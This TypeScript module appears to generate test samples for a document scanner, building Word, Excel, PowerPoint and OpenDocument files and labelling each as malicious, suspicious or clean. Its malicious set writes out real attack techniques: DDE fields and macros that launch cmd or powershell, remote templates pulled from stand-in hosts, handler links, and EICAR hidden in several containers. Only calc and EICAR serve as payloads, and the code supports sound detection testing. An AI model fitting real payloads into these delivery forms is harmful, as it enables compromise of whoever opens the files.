import { deflateSync } from 'node:zlib';
import { eicar, zip } from '../../scanners/samples';
import type { Sample, SampleMaker } from '../sample';

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const O = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"';
const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';

type Parts = Readonly<Record<string, string | Buffer>>;

/** A zip of parts in the order given. */
export function pack(parts: Parts): Buffer {
  return zip(Object.entries(parts).map(([name, data]) => ({ name, data: Buffer.from(data) })));
}

/** Relationships of one part; each is type, target, and whether it lies outside. */
export function rels(...items: readonly [string, string, boolean?][]): string {
  const one = ([type, target, inside]: readonly [string, string, boolean?], index: number): string =>
    `<Relationship Id="rId${index + 1}" Type="${REL}/${type}" Target="${target}"${inside ? '' : ' TargetMode="External"'}/>`;
  return `${head}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.map(one).join('')}</Relationships>`;
}

/** A document of Word with a body and further parts. */
export function word(body: string, more: Parts = {}, macros = false): Buffer {
  const main = macros
    ? 'application/vnd.ms-word.document.macroEnabled.main+xml'
    : 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  const project =
    'word/vbaProject.bin' in more
      ? '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
      : '';
  return pack({
    '[Content_Types].xml': `${head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${project}<Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
    '_rels/.rels': rels(['officeDocument', 'word/document.xml', true]),
    'word/document.xml': `${head}<w:document ${W}><w:body>${body}</w:body></w:document>`,
    ...more,
  });
}

/** A run with a piece of a field's code. */
const code = (text: string): string => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;

/** A field with its code in as many runs as there are pieces. */
export function field(...pieces: string[]): string {
  return `<w:p>${mark('begin')}${pieces.map(code).join('')}${mark('separate')}<w:r><w:t>text</w:t></w:r>${mark('end')}</w:p>`;
}

function workbook(sheets: string, more: Parts): Buffer {
  return pack({
    '[Content_Types].xml': `${head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`,
    '_rels/.rels': rels(['officeDocument', 'xl/workbook.xml', true]),
    'xl/workbook.xml': `${head}<workbook ${S}>${sheets}</workbook>`,
    ...more,
  });
}

/** A document of OpenOffice. */
export function odf(content: string, more: Parts = {}, entries = ''): Buffer {
  const manifest = `${head}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>${entries}</manifest:manifest>`;
  return pack({
    mimetype: 'application/vnd.oasis.opendocument.text',
    'content.xml': `${head}<office:document-content ${O} xmlns:text="urn:t" xmlns:draw="urn:d" xmlns:script="urn:s">${content}</office:document-content>`,
    'META-INF/manifest.xml': manifest,
    ...more,
  });
}

const program = (source: string): string =>
  `${head}<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">${source}</script:module>`;
const settings = (target: string): Parts => ({ 'word/_rels/settings.xml.rels': rels(['attachedTemplate', target]) });
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');

function malicious(): [string, string, Buffer][] {
  const bill = zip([{ name: 'bill.com', data: eicar() }]);
  const mso = Buffer.concat([Buffer.from('ActiveMime'), Buffer.alloc(40), deflateSync(eicar())]);
  const flat = `${head}<?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/embeddings/a.bin" pkg:contentType="x"><pkg:binaryData>${bill.toString('base64')}</pkg:binaryData></pkg:part></pkg:package>`;
  const word2003 = `${head}<?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:binData w:name="oledata.mso">${mso.toString('base64')}</w:binData></w:wordDocument>`;
  return [
    ['docx', 'a file in embeddings', word('', { 'word/embeddings/file1.bin': eicar() })],
    ['docx', 'a zip in media', word('', { 'word/media/image1.png': bill })],
    ['docx', 'a remote template', word('', settings('https://templates.example.com/t.dotm'))],
    ['docx', 'a template on a share', word('', settings('file://203.0.113.7/s/t.dotm'))],
    ['docx', 'a template on a WebDAV share', word('', settings('\\\\files.example.com@80\\s\\t.dotm'))],
    [
      'docx',
      'relationships in UTF-16',
      word('', { 'word/_rels/settings.xml.rels': utf16(rels(['attachedTemplate', 'http://a.example/t'])) }),
    ],
    [
      'docx',
      'a remote object behind mhtml',
      word('', {
        'word/_rels/document.xml.rels': rels([
          'oleObject',
          'mhtml:http://a.example/x.html!x-usc:http://a.example/x.html',
        ]),
      }),
    ],
    [
      'docx',
      'a link to a handler',
      word('', {
        'word/_rels/document.xml.rels': rels(['hyperlink', 'search-ms:query=a&amp;crumb=location:\\\\a.example\\s']),
      }),
    ],
    ['docx', 'DDEAUTO in one run', word(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))],
    ['docx', 'DDE over runs', word(field(' DD', 'E', 'AUTO "C:\\\\Programs\\\\x\\\\..\\\\cmd.exe" "/c calc"'))],
    ['docx', 'DDE as a simple field', word(`<w:p><w:fldSimple w:instr="DDE powershell &quot;-c calc&quot;"/></w:p>`)],
    [
      'docx',
      'DDE from character codes',
      word(
        `<w:p>${mark('begin')}${mark('begin')}${code(' QUOTE 68 68 69 ')}${mark('end')}${code(' cmd "/c calc"')}${mark('end')}</w:p>`,
      ),
    ],
    [
      'pptx',
      'a program on hover',
      pack({
        '_rels/.rels': rels(['officeDocument', 'ppt/presentation.xml', true]),
        'ppt/slides/slide1.xml': `${head}<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><a:hlinkMouseOver xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:id="rId2" action="ppaction://program"/></p:sld>`,
        'ppt/slides/_rels/slide1.xml.rels': rels(['hyperlink', 'powershell%20-NoP%20-c%20calc']),
      }),
    ],
    [
      'xlsx',
      'a command through DDE',
      workbook('', {
        'xl/externalLinks/externalLink1.xml': `${head}<externalLink ${S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
      }),
    ],
    [
      'xlsm',
      'an Excel 4 macro on open',
      workbook(
        '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>',
        {
          'xl/macrosheets/sheet1.xml': `${head}<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row><c><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>`,
        },
      ),
    ],
    ['odt', 'a file in the package', odf('', { 'Object 1': eicar() })],
    [
      'odt',
      'a macro that starts a program',
      odf('', { 'Basic/Standard/M.xml': program('Sub Main\nShell(&quot;calc&quot;)\nEnd Sub') }),
    ],
    ['odt', 'an object on a share', odf('<draw:object xlink:href="file://203.0.113.7/s/t.jpg"/>')],
    [
      'odt',
      'a script outside',
      odf(
        '<script:event-listener script:event-name="dom:mouseover" xlink:href="vnd.sun.star.script:../../../x.py$f?language=Python&amp;location=share"/>',
      ),
    ],
    [
      'fodt',
      'a file in base64',
      Buffer.from(
        `${head}<office:document ${O}><office:binary-data>${bill.toString('base64')}</office:binary-data></office:document>`,
      ),
    ],
    ['flat opc', 'a file in base64', Buffer.from(flat)],
    ['word 2003 xml', 'compressed data', Buffer.from(word2003)],
    ['activemime', 'as a file', mso],
  ];
}

function suspicious(): [string, string, Buffer][] {
  return [
    ['docx', 'macros that are denied', word('', { 'word/vbaProject.bin': 'none' })],
    [
      'xlsm',
      'an Excel 4 macro sheet',
      workbook('', {
        'xl/_rels/workbook.xml.rels': `${head}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>`,
      }),
    ],
    [
      'odt',
      'a macro on open',
      odf(
        '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/>',
      ),
    ],
    [
      'docx',
      'a browser control',
      word('', {
        'word/activeX/activeX1.xml': `${head}<ax:ocx ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>`,
      }),
    ],
  ];
}

function harmless(): [string, string, Buffer][] {
  return [
    [
      'docx',
      'links, a contents table and a linked picture',
      word(
        field(' HYPERLINK "https://example.com/a" \\t "_blank" ') +
          field(' TOC \\o "1-3" \\h \\z \\u ') +
          field(' PAGEREF _Toc1 \\h '),
        {
          'word/_rels/document.xml.rels': rels(
            ['hyperlink', 'https://example.com/shop?a=1&amp;b=2'],
            ['hyperlink', 'mailto:a@example.com'],
            ['hyperlink', 'javascript:void(0)'],
            ['image', 'https://img.example.com/logo.png'],
            ['image', 'file:///C:\\Users\\a\\logo.png'],
          ),
        },
      ),
    ],
    [
      'docx',
      'a template on the disk',
      word('', settings('file:///C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Templates\\Letter.dotx')),
    ],
    ['docx', 'a template on the office server', word('', settings('file:///\\\\FILESERVER\\templates\\Letter.dotx'))],
    [
      'docx',
      'prose about DDEAUTO',
      word('<w:p><w:r><w:t>A field such as DDEAUTO asks other programs for data.</w:t></w:r></w:p>'),
    ],
    ['docx', 'an embedded workbook', word('', { 'word/embeddings/Book1.xlsx': workbook('', {}) })],
    [
      'xlsx',
      'links between workbooks and prices',
      workbook('', {
        'xl/externalLinks/_rels/externalLink1.xml.rels': rels([
          'externalLinkPath',
          'https://example.sharepoint.com/sites/a/Book2.xlsx',
        ]),
        'xl/externalLinks/externalLink2.xml': `${head}<externalLink ${S}><ddeLink ddeService="BLP" ddeTopic="M"/></externalLink>`,
        'xl/worksheets/sheet1.xml': `${head}<worksheet ${S}><sheetData><row><c><f>HYPERLINK("https://example.com/1","one")</f></c><c><f>SUM(A1:A2)</f></c></row></sheetData></worksheet>`,
      }),
    ],
    [
      'odt',
      'links and pictures',
      odf(
        '<text:a xlink:href="https://example.com/">our shop</text:a><draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/>',
      ),
    ],
  ];
}

/** Containers and dangerous features of Office documents, with EICAR as the only payload, and harmless look-alikes. */
export const samples: SampleMaker = () => {
  const named = (expect: Sample['expect'], list: [string, string, Buffer][]): Sample[] =>
    list.map(([kind, title, bytes]) => ({ kind, name: `${title}.${kind.split(' ')[0] ?? 'bin'}`, bytes, expect }));
  const locked = odf(
    '',
    {},
    '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data manifest:checksum="x"/></manifest:file-entry>',
  );
  return [
    ...named('malicious', malicious()),
    ...named('suspicious', suspicious()),
    ...named('unscannable', [
      ['odt', 'encrypted', locked],
      ['activemime', 'cut', Buffer.from('ActiveMime\0\0\xf0\x01\x04')],
    ]),
    ...named('clean', harmless()),
  ];
};
